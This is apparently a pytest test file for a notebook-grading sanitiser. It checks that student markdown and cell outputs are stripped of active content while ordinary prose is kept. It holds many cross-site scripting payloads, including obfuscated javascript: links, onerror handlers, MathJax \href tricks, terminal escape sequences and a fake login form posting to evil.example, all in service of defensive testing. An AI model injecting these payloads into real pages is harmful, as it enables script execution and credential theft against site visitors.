"""What a submission leaves in a notebook is text and pictures, and honest text stays as it is."""

import base64
import time
from html.parser import HTMLParser

import nbformat
import pytest

from grading.course import sanitise
from grading.limits import ShownLimits
from grading.reporting.feedback import FeedbackPage

from .conftest import formgrader_page

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 20).decode()

HONEST = [
    'If *a* < b & c, then `x<y` and "so on"; it\'s $\\frac{a<b}{\\sqrt{d_k}}$.',
    "- one\n- two\n\n1. first\n2. second\n\n> quoted\n\n---\n",
    "```python\nif a < b:\n    print('x')\n\nreturn\n```\n",
    "    indented\n\n    code",
    "[link](https://example.org/a?b=c) and <https://example.org>",
    "$$\n\\sum_{i<j} x_i & 3\n$$\n\n\\begin{align}a&=b\\end{align}",
    "![mine](attachment:mine.png)",
    "<details><summary>more</summary>text</details>",
]
HOSTILE = [
    "<script>alert(1)</script>text",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](jAvAsCrIpT&colon;alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=x><base href=//evil.example>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
    '<a class="anchor-link" onclick=alert(1)>¶</a>',
    '<h1 id="x" onmouseover="alert(1)">a</h1>',
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "text\n\n<iframe src=//evil></iframe>\n\n\\[x](javascript:alert(1))",
    "```\n</code></pre><script>alert(1)</script>\n```\n<b onclick=alert(1)>y</b>",
    "<p style='position:fixed;inset:0'>everywhere</p>",
    "![x](https://evil.example/seen.png)",
    "![x](attachment:missing.png) <script>alert(1)</script>",
    "[" * 60_000,
]


ACTIVE = {"script", "iframe", "object", "embed", "form", "input", "style", "link", "base", "svg"}


class Active(HTMLParser):
    """Lists what in a page would run, load or leave it."""

    def __init__(self, page: str):
        super().__init__()
        self.found = []
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        if tag in ACTIVE:
            self.found.append(tag)
        for name, value in attributes:
            address = (value or "").strip().lower()
            bad = name.startswith("on") or (name == "style" and "text-align" not in address)
            if name in ("href", "src", "action", "srcdoc", "formaction"):
                bad = not address.startswith(("https://example.org", "#", "data:image/"))
            if bad:
                self.found.append(f"{tag} {name}={value}")


def shown(source: str) -> str:
    return sanitise._rendered(source, {"mine.png": {"image/png": PNG}})


@pytest.mark.parametrize("source", HONEST)
def test_honest_prose_is_not_touched(source):
    assert sanitise.clean_markdown(source, {"mine.png": {"image/png": PNG}}) == source
    assert Active(shown(source)).found == []


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_active_is_left_of_prose(source):
    clean = sanitise.clean_markdown(source)
    assert Active(shown(clean)).found == []


def test_the_test_sees_what_is_active():
    # the others break the renderer, or are read by a browser alone
    seen = [source for source in HOSTILE if "attachment:missing" not in source]
    active = [source for source in seen if Active(shown(source)).found]
    assert len(active) >= len(HOSTILE) - 5


class Ids(HTMLParser):
    """Lists the elements of a page that a script, or a link, finds by their names."""

    def __init__(self, page: str):
        super().__init__()
        self.found = []
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.found += [value for name, value in attributes if name in ("id", "name")]


@pytest.mark.parametrize(
    "source",
    [
        "# why_root\n\n# why_root-comment",
        "# MathJax",
        "<h1 id='why_root'>x</h1>\n\ntext <b id=MathJax name=MathJax>x</b>",
        "<div>\n\n# why_root\n\n</div><img id=why_root onerror=x>",
    ],
)
def test_nothing_of_a_student_is_found_by_a_name_on_a_page(source, monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("text")])
    plain = FeedbackPage(template_name="classic").from_notebook_node(notebook)[0]
    names = Ids(formgrader_page(notebook)).found, Ids(plain).found
    notebook.cells[0].source = source
    sanitise.markdown(notebook)
    page = FeedbackPage(template_name="classic").from_notebook_node(notebook)[0]
    assert (Ids(formgrader_page(notebook)).found, Ids(page).found) == names
    assert "why_root" in page or "MathJax" in page


def test_mathematics_makes_no_links():
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_markdown_cell(r"$\href{javascript:alert(1)}{x} \frac12$")]
    sanitise.markdown(notebook)
    assert notebook.cells[0].source == r"$href{javascript:alert(1)}{x} \frac12$"


@pytest.mark.parametrize("slow", ["a" + " " * 49_000 + "b", "\\\\[" * 16_000])
def test_markdown_takes_a_bounded_time_and_stays_as_text(monkeypatch, slow):
    monkeypatch.setattr(sanitise.ShownLimits, "markdown_seconds", 0.2)
    notebook = nbformat.v4.new_notebook()
    texts = ["*honest*", slow, slow, "*after*"]
    notebook.cells = [nbformat.v4.new_markdown_cell(text) for text in texts]
    begin = time.process_time()
    sanitise.markdown(notebook)
    assert time.process_time() - begin < 2
    shown = [cell.source for cell in notebook.cells]
    assert shown[0] == "*honest*"
    assert shown[1:] == [sanitise._as_text(text) for text in texts[1:]]


def cleaned(*outputs):
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_code_cell("", outputs=list(outputs))]
    sanitise.outputs(notebook, set())
    nbformat.validate(notebook)
    return notebook.cells[0].outputs


def test_outputs_keep_text_and_true_pictures():
    data = {
        "text/plain": "a picture",
        "text/html": "<script>alert(1)</script>",
        "application/javascript": "alert(1)",
        "image/svg+xml": "<svg onload=alert(1)>",
        "image/jpeg": 'x" onerror="alert(1)',
        "image/png": PNG,
    }
    (output,) = cleaned(nbformat.v4.new_output("display_data", data))
    assert output.data == {"text/plain": "a picture", "image/png": PNG}


def test_a_number_that_the_student_shows_is_no_score():
    result = nbformat.v4.new_output("execute_result", {"text/plain": "5.0"})
    assert cleaned(result)[0].output_type == "display_data"


def test_control_sequences_go_and_colours_stay():
    text = "\x1b[31mred\x1b[0m \x1b[2J\x1b]0;title\x07\x1b[1;1Hx\x08\x00\u202egnp.exe"
    (output,) = cleaned(nbformat.v4.new_output("stream", text=text))
    assert output.text == "\x1b[31mred\x1b[0m xgnp.exe"


def test_outputs_are_bounded_in_bytes():
    long = [nbformat.v4.new_output("stream", text=f"{n}" * 90_000) for n in range(50)]
    kept = cleaned(*long)
    assert sum(len(o.text) for o in kept) < ShownLimits.notebook_characters + 1_000
    assert "More output" in kept[-1].text


@pytest.mark.parametrize("slashes", [1, 2, 3, 8])
@pytest.mark.parametrize("command", ["href", "url", "style", "require", "unicode"])
def test_no_number_of_backslashes_keeps_a_command_alive(slashes, command):
    text = "\\" * slashes + command + "{javascript:alert(1)}"
    assert sanitise.inactive_math(f"${text}{text}$ \\frac12") == (
        f"${text.lstrip(chr(92)) * 2}$ \\frac12"
    )
    assert sanitise.inactive_math("\\hrefs \\styles") == "\\hrefs \\styles"
